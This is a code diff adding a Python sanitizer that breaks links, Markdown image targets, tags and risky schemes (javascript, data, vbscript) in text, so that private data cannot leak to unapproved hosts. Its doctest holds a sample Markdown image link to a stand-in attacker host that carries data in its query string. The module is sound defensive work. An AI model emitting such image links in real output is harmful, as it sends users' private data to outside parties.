@@ -1,0 +1,121 @@
+"""Texts that are shown to a person, with each address in them taken apart that may carry data away.
+
+In: a text that strangers had a hand in, made of private data. Out: the same words, in which no reader's
+program finds a link, an image or a tag that leads to somebody who may not have the data. Pure; linear.
+"""
+
+from __future__ import annotations
+
+import re
+import unicodedata
+from collections.abc import Callable, Collection
+from html import unescape
+from typing import NamedTuple
+
+from callsheet.policy.links import host_of
+
+_REST = r"[^\s<>\"'`()\[\]{}|\\^,;*]{0,2000}"
+_ADDRESS = re.compile(
+    rf"(?P<head>[a-z][a-z0-9+.-]{{0,30}}:[/\\]{{2}}|(?<![\w/\\\]])[/\\]{{2}}(?=\w)|www\.){_REST}"
+    rf"|(?<![\w./:-])(?P<host>(?:[\w-]+\.)+[^\W\d_]{{2,}}(?::\d+)?)[/?#]{_REST}"
+    r"|(?P<word>mailto|tel|sms|javascript|vbscript|blob|data(?=:[\w-]+/|:[;,])):(?=\S)",
+    re.I,
+)
+"""What programs make a link of wherever it stands: with a scheme, with `//` or `www.`, a host with a path."""
+_ENDS = frozenset("<>\"'`)]}|,;*")
+"""What an address ends at for every program, beside white space."""
+_TAG = re.compile(r"<(?=[a-z!/?](?:[^>]{0,200}[=:]|[^>]{200}))|url\((?=\s*\S)", re.I)
+_TARGET = re.compile(r"\]\(\s*(<[^>\n]{0,2000}>?|[^)\s]{0,2000})")
+_NAMED_TARGET = re.compile(r"^((?:[ \t>*+-]|\d{1,9}[.)])*\[[^\]\n]{1,999}\]):", re.M)
+_NEAR = re.compile(r"(?!//)[\w./#\[\]-]*")
+"""The target of a link that stays where the text is."""
+_SOFT = re.compile(
+    r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\u00ad\u200b-\u200f\u202a-\u202e\u2060-\u2064\ufeff]"
+    r"|\\(?=[!-/:-@\[-`{-~])"
+)
+"""What programs leave out: control and zero-width characters, a backslash before punctuation."""
+_ENTITY = re.compile(r"&(?=#?\w)")
+_CLOSING = ".:!?_~"
+
+
+class Allowed(NamedTuple):
+    """What may stay a link: addresses of hosts that may know the data, and those that stand in the plan."""
+
+    may_know: Callable[[str], bool]
+    own: Collection[str] = ()
+
+
+def disarmed(text: str, allowed: Allowed) -> str:
+    """A text whose addresses lead nowhere, but for what is allowed; one without any as it is.
+
+    >>> disarmed("![x](https://evil.example/?d=42) https://c.example/", Allowed({"c.example"}.__contains__))
+    '![x] (https[:]//evil[.]example/?d=42) https://c.example/'
+    """
+    shown = _apart(text, allowed)
+    read = unicodedata.normalize("NFKC", _SOFT.sub("", unescape(shown)))
+    if read == shown or _apart(read, allowed) == read:
+        return shown
+    plain = _ENTITY.sub("& ", unicodedata.normalize("NFKC", _SOFT.sub("", shown)))
+    return _apart(plain, allowed)
+
+
+def addresses_in(text: str) -> frozenset[str]:
+    """The addresses that programs make links of, as they stand in a text."""
+    return frozenset(found.group().rstrip(_CLOSING) for found in _ADDRESS.finditer(text))
+
+
+def _apart(text: str, allowed: Allowed) -> str:
+    """The text with its tags, targets and addresses broken."""
+
+    def target(found: re.Match[str]) -> str:
+        return found.group() if _stays_near(found[1], allowed) else f"] {found.group()[1:]}"
+
+    text = _NAMED_TARGET.sub(r"\1 :", _TARGET.sub(target, text))
+    text = _TAG.sub(lambda found: f"{found.group()[:-1]} (" if found.group() != "<" else "< ", text)
+    parts: list[str] = []
+    at = 0
+    while (found := _ADDRESS.search(text, at)) is not None:
+        parts.append(text[at : found.start()])
+        if _may_stay(found, allowed):
+            parts.append(found.group())
+            at = found.end()
+        else:  # what stands behind its host may hold others
+            broken, length = _broken(found)
+            parts.append(broken)
+            at = found.start() + length
+    return "".join(parts) + text[at:] if parts else text
+
+
+def _broken(found: re.Match[str]) -> tuple[str, int]:
+    """What stands for the beginning of an address that leads nowhere, and how long that was."""
+    whole, head, host, word = found.group(), found["head"], found["host"], found["word"]
+    if word is not None:
+        return f"{word}[:]", len(word) + 1
+    if host is not None:
+        return host.replace(".", "[.]"), len(host)
+    end = next((at for at in range(len(head), len(whole)) if whole[at] in "/?#:"), len(whole))
+    shown = head.replace(".", "[.]").replace(":", "[:]")
+    if shown == head:
+        shown = f"[{head}]"
+    shown += whole[len(head) : end].replace(".", "[.]")
+    return (f"{shown}[:]", end + 1) if whole[end : end + 1] == ":" else (shown, end)
+
+
+def _may_stay(found: re.Match[str], allowed: Allowed) -> bool:
+    after = found.string[found.end() : found.end() + 1]
+    if after and not after.isspace() and after not in _ENDS:
+        return False  # programs differ about where such an address ends
+    return found.group().rstrip(_CLOSING) in allowed.own or _is_known(found.group(), allowed)
+
+
+def _stays_near(target: str, allowed: Allowed) -> bool:
+    """Whether the target of a link of Markdown leads nowhere else, or to somebody who may know."""
+    return target in allowed.own or _NEAR.fullmatch(target) is not None or _is_known(target, allowed)
+
+
+def _is_known(address: str, allowed: Allowed) -> bool:
+    """Whether an address is of a host that may know; only of whole web addresses that is sure."""
+    if re.match(r"https?://", address, re.I) is None:
+        return False
+    host = host_of(address)
+    return host is not None and allowed.may_know(host)
